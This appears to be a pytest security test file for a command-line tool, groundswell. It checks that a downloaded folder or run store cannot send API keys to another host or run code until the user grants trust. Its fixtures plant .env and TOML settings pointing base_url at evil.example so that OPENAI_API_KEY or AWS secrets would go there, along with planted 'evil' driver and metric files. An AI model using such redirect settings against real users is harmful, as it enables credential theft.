"""A folder of somebody else gets no keys, and a store of somebody else runs no code, until `groundswell trust`."""

from __future__ import annotations

import os
import sqlite3
import stat
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple
from uuid import uuid4

import pytest

import groundswell
from groundswell.program import trial as registry
from groundswell.transports import http
from tests.cli.conftest import DRIVER, CommandLine

SECRET = "sk-planted-and-never-sent"


class Attack(NamedTuple):
    """What is in a folder, the model that is asked in it, and the variable that would be sent."""

    toml: str
    dotenv: str
    model: str
    variable: str

    def plant(self, folder: Path) -> None:
        (folder / "groundswell.toml").write_text(self.toml)
        (folder / ".env").write_text(self.dotenv)

    @property
    def command(self) -> str:
        """What the user is told to do."""
        return f"groundswell trust https://evil.example --variable {self.variable}"


ATTACKS = {
    ".env": Attack("", "OPENAI_BASE_URL=https://evil.example/v1\n", "openai/x", "OPENAI_API_KEY"),
    "groundswell.toml": Attack(
        "[accounts.openai]\nbase_url = 'https://evil.example/v1'\nkey_env = 'OPENAI_API_KEY'\n",
        "",
        "openai/x",
        "OPENAI_API_KEY",
    ),
    "headers": Attack(
        "[accounts.lab]\ndialect = 'openai'\nbase_url = 'https://evil.example/v1'\n"
        "headers = {X-A = 'env:AWS_SECRET_ACCESS_KEY'}\n",
        "",
        "lab/x",
        "AWS_SECRET_ACCESS_KEY",
    ),
}


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder of somebody else, in which the user works, with keys in the environment."""
    work = tmp_path / "download"
    work.mkdir()
    monkeypatch.chdir(work)
    for name in ("OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(name, SECRET)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    return work


@pytest.fixture
def clients(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, ...]]:
    """The addresses for which an HTTP client was asked for. None is ever made, so nothing is sent."""
    made: list[tuple[str, ...]] = []

    def refuse(account: Any, usual: Any) -> Any:
        made.append(account.endpoints)
        raise ConnectionError("this test sends nothing")

    monkeypatch.setattr(http, "_client", refuse)
    return made


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_a_folder_gets_no_key(attack: Attack, cli: CommandLine, folder: Path, clients: list[tuple[str, ...]]) -> None:
    attack.plant(folder)
    told = cli("run", DRIVER, "--set", f"model={attack.model}", status=2).stderr
    assert f"{attack.variable} to https://evil.example" in told
    assert attack.command in told
    assert SECRET not in told
    assert cli.json("runs", "list") == {"runs": []}
    assert attack.command in cli("ask", "-m", attack.model, "hi", status=2).stderr
    assert clients == []


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_once_it_is_trusted_it_does(
    attack: Attack, cli: CommandLine, folder: Path, clients: list[tuple[str, ...]]
) -> None:
    attack.plant(folder)
    cli(*attack.command.split()[1:])
    cli("run", DRIVER, "--set", f"model={attack.model}", status=1)
    assert clients == [("https://evil.example/v1",)]


def test_python_gets_the_same_error(folder: Path, clients: list[tuple[str, ...]]) -> None:
    attack = ATTACKS[".env"]
    attack.plant(folder)
    with (
        groundswell.open_sync(folder / "runs.db") as engine,
        pytest.raises(groundswell.SettingsError, match=attack.command),
    ):
        engine._engine.reach(attack.model)
    with (
        groundswell.open_sync(folder / "runs.db", account=["openai.base_url=https://mine.example"]) as engine,
        pytest.raises(ConnectionError),
    ):
        engine._engine.reach(attack.model)
    assert clients == [("https://mine.example",)]


def test_an_address_on_the_command_line_is_the_users_word(
    cli: CommandLine, folder: Path, clients: list[tuple[str, ...]]
) -> None:
    cli("run", DRIVER, "--set", "model=openai/x", "--account", "openai.base_url=https://mine.example/v1", status=1)
    assert clients == [("https://mine.example/v1",)]


def test_looking_shows_an_account_that_is_not_trusted(
    cli: CommandLine, folder: Path, clients: list[tuple[str, ...]]
) -> None:
    (folder / ".env").write_text("OPENAI_BASE_URL=https://evil.example/v1\n")
    models = cli("models", "list").stdout
    assert "not trusted" in next(line for line in models.splitlines() if line.startswith("openai/"))
    found = {one["model"]: one for one in cli.json("models", "list")["accounts"]}["openai/MODEL"]
    assert (found["usable"], found["trusted"]) == (False, False)
    assert "account   openai: NOT TRUSTED" in cli("doctor").stdout
    assert clients == []


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> None:
    """Somebody sits at the terminal."""
    monkeypatch.setattr("groundswell.cli.trust.at_terminal", lambda: True)


@pytest.mark.usefixtures("asked")
def test_somebody_at_a_terminal_is_asked_once(cli: CommandLine, folder: Path, clients: list[tuple[str, ...]]) -> None:
    (folder / ".env").write_text("OPENAI_BASE_URL=https://evil.example/v1\n")
    words = ("run", DRIVER, "--set", "model=openai/x")
    refused = cli(*words, answer="n\n", status=2)
    assert "Send OPENAI_API_KEY to https://evil.example? [y/N]" in refused.stderr
    assert clients == []
    cli(*words, answer="y\n", status=1)
    assert "Send OPENAI_API_KEY" not in cli(*words, status=1).stderr
    assert clients == [("https://evil.example/v1",)] * 2
    assert cli.json("trust", "list")["hosts"] == {"https://evil.example": ["OPENAI_API_KEY"]}


EVIL = """
from pathlib import Path
Path({marker!r}).write_text("run")

async def driver(run, settings):
    pass
"""


class Plot:
    """A store of somebody else, and code that leaves a mark when it is run."""

    def __init__(self, cli: CommandLine, folder: Path) -> None:
        self._cli = cli
        self.marker = folder / "mark"
        self.file = folder / "evil_experiment.py"
        self.file.write_text(EVIL.format(marker=str(self.marker)))

    @property
    def ran(self) -> bool:
        return self.marker.exists()

    def name(self, driver: str) -> None:
        """Have the store name a driver."""
        connection = sqlite3.connect(self._cli.store)
        connection.execute("UPDATE runs SET driver = ?, checksum = NULL", [driver])
        connection.commit()
        connection.close()


@pytest.fixture
def plot(cli: CommandLine, rewrite: Callable[..., str], folder: Path, monkeypatch: pytest.MonkeyPatch) -> Plot:
    prefix = f"planted-{uuid4().hex}"
    cli.json("run", rewrite("tests/", f"{prefix}/"), "--name", "r", "--max-calls", "5", status=3)
    for program in ("counting@1", "sticking@1"):
        monkeypatch.delitem(registry._PROGRAMS, f"{prefix}/{program}")
    for module in [name for name in sys.modules if name.endswith("copied_experiment")]:
        monkeypatch.delitem(sys.modules, module)
    return Plot(cli, folder)


def first_key(cli: CommandLine) -> str:
    key: str = cli("runs", "export", "r").stdout.partition('"key":"')[2].partition('"')[0]
    return key


COMMANDS = (["resume", "r"], ["verify", "r"], ["fork", "r"])


@pytest.mark.sampled(every=3)
@pytest.mark.parametrize("words", COMMANDS, ids=lambda words: words[0])
@pytest.mark.parametrize("by", ["file", "module"])
def test_a_store_runs_no_code(cli: CommandLine, plot: Plot, words: list[str], by: str) -> None:
    plot.name(f"{plot.file}:driver" if by == "file" else "evil_experiment:driver")
    told = cli("runs", *words, status=2).stderr
    assert f"groundswell trust {plot.file}" in told
    assert not plot.ran
    assert str(plot.file.parent) not in sys.path


@pytest.mark.parametrize("by", ["file", "module"])
def test_showing_a_trial_imports_nothing(cli: CommandLine, plot: Plot, by: str) -> None:
    plot.name(f"{plot.file}:driver" if by == "file" else "evil_experiment:driver")
    shown = cli("runs", "show", "r", "--trial", first_key(cli))
    assert not plot.ran
    assert "=> you said 'hello 0.0'" in shown.stdout
    assert "is not loaded, so only replies are shown; to see the prompts: groundswell runs show" in shown.stderr
    assert cli.json("runs", "show", "r", "--trial", first_key(cli))["program_loaded"] is False
    assert (
        f"groundswell trust {plot.file}"
        in cli("runs", "show", "r", "--trial", first_key(cli), "--prompts", status=2).stderr
    )
    assert not plot.ran


NOWHERE = ["os:system", ".x:y"]
"""Where there is no file to be trusted."""
LIBRARY = ["os:system", "antigravity:geohash", "asyncio:sleep", "asyncio.tasks:sleep", "this:s", "click.testing:x"]


@pytest.mark.sampled
@pytest.mark.parametrize(
    "name", [*LIBRARY, "groundswell.engine.delivery:pause", "groundswell.__main__:main", ".x:y", ":x"]
)
def test_a_store_names_no_function_of_python_or_of_groundswell(cli: CommandLine, plot: Plot, name: str) -> None:
    plot.name(name)
    before = set(sys.modules)
    for words in COMMANDS[:2]:
        told = cli("runs", *words, status=1 if name in NOWHERE else 2).stderr
        assert told.startswith(f"error: driver {name}") or name == ":x"
    assert not {"antigravity", "this", "groundswell.__main__"} & (set(sys.modules) - before)


def test_a_folder_does_not_stand_in_for_an_installed_package(
    cli: CommandLine, plot: Plot, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    info = folder / "evil-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[groundswell.experiments]\nevil = evil_experiment:driver\n")
    monkeypatch.syspath_prepend(folder)
    plot.name("evil_experiment:driver")
    cli("runs", "resume", "r", status=2)
    assert not plot.ran


def test_resuming_an_experiment_of_our_own_does_not_import_from_the_folder(
    cli: CommandLine, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cli("ask", "-m", "emulated/echo", "hi")
    run = cli.json("runs", "list")["runs"][0]["run_id"]
    cli("runs", "resume", run)
    assert str(folder) not in sys.path


def test_another_path_to_a_trusted_file_is_not_trusted(cli: CommandLine, plot: Plot, folder: Path) -> None:
    cli("trust", str(plot.file))
    (folder / "link.py").symlink_to(plot.file)
    plot.name(f"{folder / 'link.py'}:driver")
    cli("runs", "resume", "r", status=2)
    assert not plot.ran


@pytest.mark.parametrize("by", ["file", "module"])
def test_a_file_that_is_trusted_is_loaded(cli: CommandLine, plot: Plot, by: str) -> None:
    cli("trust", str(plot.file))
    plot.name(f"{plot.file}:driver" if by == "file" else "evil_experiment:driver")
    cli("runs", "show", "r", "--trial", first_key(cli))
    assert not plot.ran, "showing imports nothing, trusted or not"
    cli("runs", "verify", "r", status=1)
    assert plot.ran


@pytest.mark.usefixtures("asked")
def test_somebody_at_a_terminal_is_asked_before_code_runs(cli: CommandLine, plot: Plot) -> None:
    plot.name(f"{plot.file}:driver")
    refused = cli("runs", "verify", "r", answer="n\n", status=2)
    assert f"Run the code in {plot.file}? [y/N]" in refused.stderr
    assert not plot.ran
    cli("runs", "verify", "r", answer="y\n", status=1)
    assert plot.ran
    assert str(plot.file) in cli.json("trust", "list")["files"]


def test_what_the_user_has_run_is_resumed_without_a_question(
    cli: CommandLine, rewrite: Callable[..., str], monkeypatch: pytest.MonkeyPatch
) -> None:
    name = rewrite("tests/", "mine/")
    cli.json("run", name, "--name", "r", "--max-calls", "5", status=3)
    monkeypatch.delitem(sys.modules, "groundswell_script_copied_experiment")
    assert cli.json("runs", "resume", "r", "--max-calls", "50")["status"] == "completed"
    assert name.rpartition(":")[0] in cli.json("trust", "list")["files"]


METRIC = """
from pathlib import Path
from groundswell.experiments.prompt_evolution.metrics import metric
Path({marker!r}).write_text("run")

@metric("marked")
def marked(reply, problem):
    return 1.0
"""
EVOLVE = ("evolve", "--model", "emulated/solver", "--population-size", "4", "--max-generations", "1", "--name", "e")


def test_a_metric_that_a_store_names_is_not_imported(cli: CommandLine, folder: Path) -> None:
    pytest.importorskip("scipy")
    marker = folder / "mark"
    (folder / "evil_metric.py").write_text(METRIC.format(marker=str(marker)))
    cli(*EVOLVE, "--max-calls", "20", status=3)
    connection = sqlite3.connect(cli.store)
    connection.execute(
        "UPDATE runs SET settings = json_set(settings, '$.metric', 'evil_metric:marked'), checksum = NULL"
    )
    connection.commit()
    connection.close()
    assert f"groundswell trust {folder / 'evil_metric.py'}" in cli("runs", "resume", "e", status=2).stderr
    assert not marker.exists()


def test_trust_is_kept_for_its_owner_alone(cli: CommandLine, tmp_path: Path) -> None:
    cli("trust", "LLM.example.org", "http://gpu1:8000/v1")
    cli("trust", "https://llm.example.org:443/v1", "--variable", "LAB_KEY")
    found = cli.json("trust", "list")
    assert found["hosts"] == {"http://gpu1:8000": ["*"], "https://llm.example.org": ["*", "LAB_KEY"]}
    path = Path(found["path"])
    assert path.parent.parent == Path(os.environ["XDG_CONFIG_HOME"])
    assert (stat.S_IMODE(path.stat().st_mode), stat.S_IMODE(path.parent.stat().st_mode)) == (0o600, 0o700)
    assert "host  http://gpu1:8000: any variable" in cli("trust", "list").stdout
    cli("trust", "remove", "llm.example.org")
    assert cli.json("trust", "remove", "http://gpu1:8000")["removed"] is True
    assert cli.json("trust", "list")["hosts"] == {}
    assert "is not trusted" in cli("trust", "remove", "llm.example.org", status=2).stderr
    assert "does not use TLS" in cli("trust", "http://gpu1:8000").stderr


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (["nowhere.py"], "no such file"),
        (["https://user@host"], "must not contain a user name"),
        (["ho st"], "must begin with http"),
        (["ftp://host"], "must begin with http"),
        (["host", "--variable", "sk-planted-1234567890"], "must be the NAME of a variable"),
        ([DRIVER.rpartition(":")[0], "--variable", "A"], "applies to hosts"),
    ],
    ids=["no file", "user", "space", "scheme", "a key", "a variable for a file"],
)
def test_what_cannot_be_trusted(cli: CommandLine, words: list[str], told: str) -> None:
    assert told in cli("trust", *words, status=2).stderr
    assert cli.json("trust", "list")["hosts"] == {}


def test_a_damaged_list_is_told_of_and_nothing_is_trusted(cli: CommandLine, plot: Plot) -> None:
    path = Path(cli.json("trust", "list")["path"])
    path.write_text("{")
    plot.name(f"{plot.file}:driver")
    assert f"{path}: is damaged" in cli("runs", "verify", "r", status=2).stderr
    assert not plot.ran
